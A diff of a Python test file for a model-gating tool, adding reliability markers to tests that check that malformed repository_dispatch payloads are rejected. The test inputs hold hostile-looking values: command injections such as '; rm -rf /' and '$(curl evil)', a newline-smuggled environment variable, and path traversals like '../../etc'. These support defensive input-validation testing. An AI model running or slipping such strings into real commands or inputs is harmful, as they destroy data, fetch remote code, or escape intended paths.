@@ -47,9 +47,19 @@ def test_registry_input__overrides_the_payload_default(tmp_path: Path) -> None:
     assert target.collection == "wandb-registry-model/other"
 
 
-@pytest.mark.parametrize(
-    "bad", ["acme/proj/x:v1; rm -rf /", "$(curl evil)", "a/b/c:v1\nINPUT_X=1", "a/b/c:v1\n", "../../etc:v1"]
-)
+def _bad_payload(value: str, case: str) -> object:
+    return pytest.param(value, marks=pytest.mark.reliability(
+        "input", f"repository_dispatch `artifact_version_string` {case}",
+        "exit 2: names `artifact_version_string` and shows the payload a W&B automation should send"))
+
+
+@pytest.mark.parametrize("bad", [
+    _bad_payload("acme/proj/x:v1; rm -rf /", "with `; rm -rf /`"),
+    _bad_payload("$(curl evil)", "`$(curl evil)`"),
+    _bad_payload("a/b/c:v1\nINPUT_X=1", "with a newline and `INPUT_X=1`"),
+    _bad_payload("a/b/c:v1\n", "with a trailing newline"),
+    _bad_payload("../../etc:v1", "`../../etc:v1`"),
+])
 def test_payload_values__that_do_not_match_strict_patterns_are_refused(bad: str, tmp_path: Path) -> None:
     with pytest.raises(InvalidPayload) as info:
         resolve_target(None, None, "repository_dispatch", staged_model_event(artifact_version_string=bad), tmp_path)
@@ -57,6 +67,10 @@ def test_payload_values__that_do_not_match_strict_patterns_are_refused(bad: str,
     assert "${artifact_version_string}" in info.value.hint  # shows the expected payload
 
 
+@pytest.mark.reliability(
+    "input", "repository_dispatch with an empty `client_payload`",
+    "exit 2: says `client_payload.artifact_version_string` is missing and shows the expected payload"
+)
 def test_missing_payload__shows_the_expected_payload(tmp_path: Path) -> None:
     event = staged_model_event()
     event["client_payload"] = {}
@@ -66,11 +80,19 @@ def test_missing_payload__shows_the_expected_payload(tmp_path: Path) -> None:
     assert '"event_type": "staged_model"' in info.value.hint
 
 
+@pytest.mark.reliability(
+    "input", "model-gate on `push` with no `model` input",
+    "exit 2: says there is no model to gate"
+)
 def test_no_model_and_no_dispatch__says_how_to_name_one(tmp_path: Path) -> None:
     with pytest.raises(MlgateError, match="No model to gate"):
         resolve_target(None, None, "push", {}, tmp_path)
 
 
+@pytest.mark.reliability(
+    "input", "`model: ../secret.pt` or a missing local file",
+    "exit 2: says it leaves the workspace / is neither a W&B artifact nor a file"
+)
 def test_model_input__local_file_or_artifact_path(tmp_path: Path) -> None:
     (tmp_path / "models").mkdir()
     (tmp_path / "models" / "m.pt").write_bytes(b"x")
